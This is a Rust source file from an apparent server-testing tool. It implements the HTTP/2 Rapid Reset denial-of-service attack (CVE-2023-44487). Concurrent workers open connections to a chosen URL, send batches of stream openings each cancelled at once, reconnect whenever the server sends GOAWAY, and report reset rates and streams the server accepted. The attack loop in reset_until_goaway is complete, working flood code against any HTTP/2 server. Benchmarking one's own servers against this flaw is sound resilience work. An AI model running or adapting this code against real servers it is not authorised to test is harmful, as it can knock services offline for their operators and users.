//! `sselab bench attack rapid-reset` (CVE-2023-44487): HTTP/2 connections that open streams
//! of `--url` and reset them at once, [`RESETS_PER_WRITE`] per write, as fast as the writes go.
//! When the server ends a connection (GOAWAY), the next one opens. Each connection's GOAWAY
//! says how many streams the server had taken before it said stop (its last stream id).

use std::sync::Arc;
use std::sync::Mutex;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use serde::Serialize;
use tokio::io::AsyncWriteExt;
use tokio::task::JoinSet;
use tokio::time::Instant;
use tokio_util::sync::CancellationToken;

use super::args::AttackPlan;
use super::h2conn::{Endings, EndingsTally, H2Conn};
use crate::client::h2raw::{self, code};
use crate::sync::lock;

/// Streams opened and reset per write: the client side of h2's default concurrency, and
/// five times the server's default bound, so a server that cannot keep up sees it at once.
pub const RESETS_PER_WRITE: u32 = 100;

/// A pause after a failed connect, so a refusing server is not hammered in a hot loop.
pub(super) const RETRY_PAUSE: Duration = Duration::from_millis(20);

/// p50 and max of a count per connection.
#[derive(Debug, Clone, Copy, Default, Serialize)]
pub struct Spread {
    pub p50: u64,
    pub max: u64,
}

#[derive(Debug, Clone, Default, Serialize)]
pub struct RapidResetReport {
    /// Streams opened and reset in writes the kernel took; after a GOAWAY the server reads
    /// none of what is still on its way.
    pub resets_written: u64,
    pub resets_per_sec: f64,
    /// Streams the server took, over all connections, before its GOAWAYs.
    pub streams_taken: u64,
    /// Streams the server took on a connection before its GOAWAY.
    pub streams_before_goaway: Spread,
    pub endings: Endings,
}

#[derive(Default)]
struct Tally {
    resets: AtomicU64,
    endings: EndingsTally,
    streams_before_goaway: Mutex<Vec<u64>>,
}

/// Run `plan.connections` resetting connections until `stop` or `plan.limit` resets.
pub(super) async fn run(plan: Arc<AttackPlan>, stop: CancellationToken) -> RapidResetReport {
    let tally = Arc::new(Tally::default());
    let started = Instant::now();
    let mut workers = JoinSet::new();
    for _ in 0..plan.connections {
        let (plan, tally, stop) = (plan.clone(), tally.clone(), stop.clone());
        workers.spawn(async move {
            while !stop.is_cancelled() && tally.resets.load(Ordering::Relaxed) < plan.limit {
                match H2Conn::open(&plan, &tally.endings).await {
                    Ok(conn) => reset_until_goaway(conn, &plan, &tally, &stop).await,
                    Err(reason) => {
                        tally.endings.connect_failed(reason);
                        tokio::time::sleep(RETRY_PAUSE).await;
                    }
                }
            }
        });
    }
    while workers.join_next().await.is_some() {}
    let elapsed = started.elapsed().as_secs_f64().max(0.001);
    let resets = tally.resets.load(Ordering::Relaxed);
    let mut per_connection = lock(&tally.streams_before_goaway).clone();
    per_connection.sort_unstable();
    RapidResetReport {
        resets_written: resets,
        resets_per_sec: resets as f64 / elapsed,
        streams_taken: per_connection.iter().sum(),
        streams_before_goaway: Spread {
            p50: per_connection
                .get(per_connection.len() / 2)
                .copied()
                .unwrap_or(0),
            max: per_connection.last().copied().unwrap_or(0),
        },
        endings: tally.endings.endings(),
    }
}

async fn reset_until_goaway(
    mut conn: H2Conn,
    plan: &AttackPlan,
    tally: &Tally,
    stop: &CancellationToken,
) {
    let block = H2Conn::request_block(plan);
    let mut batch = Vec::new();
    let mut next_stream = 1u32;
    while !conn.ended()
        && !stop.is_cancelled()
        && tally.resets.load(Ordering::Relaxed) < plan.limit
        && next_stream < i32::MAX as u32 - 2 * RESETS_PER_WRITE
    {
        batch.clear();
        for _ in 0..RESETS_PER_WRITE {
            h2raw::headers(&mut batch, next_stream, &block, true, true);
            h2raw::rst_stream(&mut batch, next_stream, code::CANCEL);
            next_stream += 2;
        }
        if conn.writer.write_all(&batch).await.is_err() || conn.writer.flush().await.is_err() {
            break;
        }
        tally
            .resets
            .fetch_add(u64::from(RESETS_PER_WRITE), Ordering::Relaxed);
        // Let the other connections and the control client have the thread between writes.
        tokio::task::yield_now().await;
    }
    if let Some(last_stream) = conn.finish(plan, &tally.endings, stop).await {
        lock(&tally.streams_before_goaway).push(u64::from(last_stream.div_ceil(2)));
    }
}
